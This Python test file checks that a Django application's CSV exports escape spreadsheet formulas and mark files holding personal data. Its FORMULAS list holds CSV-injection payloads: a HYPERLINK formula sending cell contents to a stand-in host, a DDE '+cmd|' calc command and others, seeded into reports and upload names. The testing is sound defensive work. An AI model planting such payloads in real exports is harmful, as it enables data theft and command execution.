"""Probes of the CSV exports a signed-in person downloads: formulas in every column an outsider
can write to, and whether a file that leaves with personal data says so.

Reproduced by writing spreadsheet formulas (``=HYPERLINK``, ``+cmd|``, ``@SUM``, ``-1+``) where
people outside the partnership write: a resident's public report (what happened, where, their
name, e-mail and phone) and a partner's import file (a location, a bad latitude, the file's
name), and by downloading each export as the people allowed it.

What must hold: every cell of every export opens as text (found safe: each goes through
``csvstream``, including a cell given as an object whose text starts with ``=``, which the
escaping used to pass untouched because it looked only at ``str`` values); and an export that
holds personal data carries the marking in its file name, the one place a CSV can carry it
(README: "A document is marked OFFICIAL-SENSITIVE when it holds personal data"). Found: the
residents' reports with contact details, the mailing-house CSV of a letter run with names, and
the audit and personal-data-reads exports left unmarked.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from clearhold.accounts.roles import Role
from clearhold.audit.models import AuditAction
from clearhold.audit.services import audit_record
from clearhold.incidents.models import ImportBatch
from clearhold.resident_reports.models import ResidentReport
from clearhold.resident_reports.services import reporting_page_open
from clearhold.toolkit.csvstream import PERSONAL_FILE_MARK, csv_lines, spreadsheet_safe
from tests.incidents.policeuk_files import row, write

pytestmark = pytest.mark.django_db
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"see")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1"]


def _rows(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _no_formula(rows: list[list[str]]) -> None:
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def _filename(response) -> str:
    return response["Content-Disposition"].split("filename=", 1)[1].strip('"')


class Shows:
    """An object a row may hold (a lazy string, a label) whose text is a formula."""

    def __str__(self) -> str:
        return FORMULAS[0]


def test_a_cell_given_as_an_object_is_escaped_by_its_text():
    assert spreadsheet_safe(Shows()) == "'" + FORMULAS[0]
    _no_formula(list(csv.reader(io.StringIO("".join(csv_lines(["a"], [[Shows()]]))))))
    assert spreadsheet_safe(dt.date(2025, 1, 2)) == "2025-01-02"
    assert spreadsheet_safe(-2) == -2


@pytest.fixture
def reported(problem, site, manager):
    page = reporting_page_open(
        user=manager, problem=problem, site=site, public_name=FORMULAS[1],
        slug="chapel-road-park", categories=["drugs"],
    )  # fmt: skip
    return ResidentReport.objects.create(
        page=page, problem=problem, reference="KQ7RDW3HXM", category="drugs",
        what_happened=FORMULAS[0], where=FORMULAS[2], occurred_on=dt.date(2025, 6, 1),
        latitude=52.66, longitude=0.16, contact_name=FORMULAS[3], contact_email="=a@x.example",
        contact_phone="+44 7700 900123", contact_consent=True,
    )  # fmt: skip


def test_a_residents_report_exports_as_text_and_marked_when_it_names_them(
    client, manager, reported, give_purpose
):
    url = f"/problems/{reported.problem_id}/resident-reports.csv"
    client.force_login(manager)
    unnamed = client.get(url)
    assert PERSONAL_FILE_MARK not in _filename(unnamed)  # no purpose: no contact details
    give_purpose(client, reported.problem)
    named = client.get(url)
    rows = _rows(named)
    _no_formula(rows)
    assert "'" + FORMULAS[0] in rows[1]
    assert "'+44 7700 900123" in rows[1]
    assert PERSONAL_FILE_MARK in _filename(named)
    assert "no-store" in named["Cache-Control"]


def test_a_partners_rejected_rows_export_as_text(
    client, make_user, police, tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path / "media"
    analyst = make_user("analyst", police, Role.ANALYST)
    name = "=cmd.csv"
    bad = row(2, lat=FORMULAS[0])
    bad[6] = FORMULAS[1]
    path = write(tmp_path / "rows.csv", [row(1), bad])
    client.force_login(analyst)
    upload = SimpleUploadedFile(name, path.read_bytes(), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/incidents/import/", {"source": "policeuk", "files": [upload]})
    batch = ImportBatch.objects.get()
    rows = _rows(client.get(f"/incidents/imports/{batch.pk}/rejected-rows.csv"))
    assert len(rows) > 1
    assert "'" + name in rows[1]
    _no_formula(rows)


@pytest.mark.parametrize("path", ["/audit/export.csv", "/audit/data-protection/reads.csv"])
def test_the_audit_exports_are_marked_as_personal_data(client, administrator, path):
    audit_record(action=AuditAction.VIEW, object_repr=FORMULAS[0], detail=FORMULAS[2])
    client.force_login(administrator)
    response = client.get(path)
    assert response.status_code == 200
    _no_formula(_rows(response))
    assert PERSONAL_FILE_MARK in _filename(response)


def test_a_document_with_personal_data_is_marked_in_its_file_name(
    problem, site, manager, settings, tmp_path
):
    from clearhold.documents.kinds import kind_get
    from clearhold.documents.pdf import Rendered
    from clearhold.documents.services import document_save

    settings.MEDIA_ROOT = tmp_path
    kind = kind_get("resident_letter")
    made = {
        personal: document_save(
            user=manager,
            problem=problem,
            closure=None,
            kind_key=kind.key,
            fmt="csv",
            title="Letters",
            rendered=Rendered(b"unit\nFlat 1\n"),
            template_label="x",
            classes=["restricted"] if personal else [],
            inputs={},
        )
        for personal in (True, False)
    }
    assert PERSONAL_FILE_MARK in made[True].file.name
    assert PERSONAL_FILE_MARK not in made[False].file.name
